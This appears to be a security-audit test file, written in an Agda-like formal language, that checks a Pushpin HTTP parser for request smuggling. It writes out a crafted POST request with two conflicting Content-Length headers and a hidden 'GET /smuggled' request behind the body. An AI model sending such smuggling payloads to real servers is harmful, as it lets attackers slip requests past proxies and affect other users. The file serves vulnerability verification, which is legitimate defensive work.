-- ===== src/Pushpin/ContentLength/Smuggling.antt =====
-- `main` of 012: the request is parsed, its body is cut off the buffer, and what is left is parsed again.
-- `httparse` is an argument.
mod Tests
use security_audits.Base.{
  ℕ, ◌+◌, Bool, true, false, ◌&&◌, ◌==◌, Option, none, some, List, [], ◌∷◌, ◌++◌, leb, length, take,
  drop, if◌then◌else◌, Outcome, done, panic, ◌>>=◌, ◌>>◌, assert, unwrap, Result, ok, err,
}
use security_audits.Base.Bytes.{bytes_eq}
use security_audits.Pushpin.ContentLength.{
  Error, BodySize, no_body, known, unknown, Request, is_utf8, process_request,
}

-- A request as `parse` leaves it; `status` is `none` where the request is partial.
pub record Parsed : Type 0 where
  pub status : Option ℕ
  pub method : Option (List ℕ)
  pub path : Option (List ℕ)
  pub request : Request

-- `&raw[header_end..header_end + body_len]`. A sum that does not fit a `usize` panics or gives a range
-- that ends before it starts.
abbrev pub slice : List ℕ → ℕ → ℕ → Outcome (List ℕ)
slice raw header_end body_len =
    if leb (header_end + body_len) (length raw)
    then done (take body_len (drop header_end raw))
    else panic

-- `&raw[from..]`.
abbrev pub leftover_from : List ℕ → ℕ → Outcome (List ℕ)
leftover_from raw from = if leb from (length raw) then done (drop from raw) else panic

abbrev pub known_length : Result (BodySize × Bool) Error → Outcome ℕ
known_length (ok (known n, more)) = done n
known_length (ok (no_body, more)) = panic
known_length (ok (unknown, more)) = panic
known_length (err e) = panic

abbrev pub is_some {ℓ} : {A : Type ℓ} → Option A → Bool
is_some none = false
is_some (some a) = true

-- `==` of an optional text and a given one.
abbrev pub is_text : Option (List ℕ) → List ℕ → Bool
is_text none bs = false
is_text (some as') bs = bytes_eq as' bs

-- The head of the request: two lengths, 5 and 3.
abbrev pub head_bytes : List ℕ
head_bytes =
    b'P' ∷ b'O' ∷ b'S' ∷ b'T' ∷ 32 ∷ b'/' ∷ 32 ∷ b'H' ∷ b'T' ∷ b'T' ∷ b'P' ∷ b'/' ∷ b'1' ∷ b'.'
    ∷ b'1' ∷ 13 ∷ 10 ∷ b'H' ∷ b'o' ∷ b's' ∷ b't' ∷ b':' ∷ 32 ∷ b'e' ∷ b'x' ∷ b'a' ∷ b'm' ∷ b'p'
    ∷ b'l' ∷ b'e' ∷ 13 ∷ 10 ∷ b'C' ∷ b'o' ∷ b'n' ∷ b't' ∷ b'e' ∷ b'n' ∷ b't' ∷ b'-' ∷ b'L' ∷ b'e'
    ∷ b'n' ∷ b'g' ∷ b't' ∷ b'h' ∷ b':' ∷ 32 ∷ b'5' ∷ 13 ∷ 10 ∷ b'C' ∷ b'o' ∷ b'n' ∷ b't' ∷ b'e'
    ∷ b'n' ∷ b't' ∷ b'-' ∷ b'L' ∷ b'e' ∷ b'n' ∷ b'g' ∷ b't' ∷ b'h' ∷ b':' ∷ 32 ∷ b'3' ∷ 13 ∷ 10 ∷ 13
    ∷ 10 ∷ []

-- The request behind the body.
abbrev pub smuggled_bytes : List ℕ
smuggled_bytes =
    b'G' ∷ b'E' ∷ b'T' ∷ 32 ∷ b'/' ∷ b's' ∷ b'm' ∷ b'u' ∷ b'g' ∷ b'g' ∷ b'l' ∷ b'e' ∷ b'd' ∷ 32
    ∷ b'H' ∷ b'T' ∷ b'T' ∷ b'P' ∷ b'/' ∷ b'1' ∷ b'.' ∷ b'1' ∷ 13 ∷ 10 ∷ b'H' ∷ b'o' ∷ b's' ∷ b't'
    ∷ b':' ∷ 32 ∷ b'e' ∷ b'x' ∷ b'a' ∷ b'm' ∷ b'p' ∷ b'l' ∷ b'e' ∷ 13 ∷ 10 ∷ 13 ∷ 10 ∷ []

-- "abc".
abbrev pub abc : List ℕ
abc = b'a' ∷ b'b' ∷ b'c' ∷ []

abbrev pub raw : List ℕ
raw = head_bytes ++ (abc ++ smuggled_bytes)

module _ (parse : List ℕ → Option Parsed) where
  -- The length of the body, the body, and what is left of the buffer.
  unfoldable pub consume : List ℕ → Outcome (ℕ × List ℕ × List ℕ)
  consume buffer = do
    req ← unwrap (parse buffer)
    header_end ← unwrap req.status
    result ← process_request req.request
    body_len ← known_length result
    body ← slice buffer header_end body_len
    leftover ← leftover_from buffer (header_end + body_len)
    done (body_len, body, leftover)

  -- The exit code. What is printed must be UTF-8.
  unfoldable pub main_smuggling : Outcome ℕ
  main_smuggling = do
    parts ← consume raw
    let (body_len, body, leftover) = parts
    assert (is_utf8 body)
    assert (is_utf8 leftover)
    smuggled ← unwrap (parse leftover)
    let smuggled_complete = is_some smuggled.status
    let vulnerable =
        body_len == 3
        && bytes_eq body abc
        && smuggled_complete
        && is_text smuggled.method (b'G' ∷ b'E' ∷ b'T' ∷ [])
        && is_text smuggled.path (b'/' ∷ b's' ∷ b'm' ∷ b'u' ∷ b'g' ∷ b'g' ∷ b'l' ∷ b'e' ∷ b'd' ∷ [])
    if vulnerable then done 0 else done 1
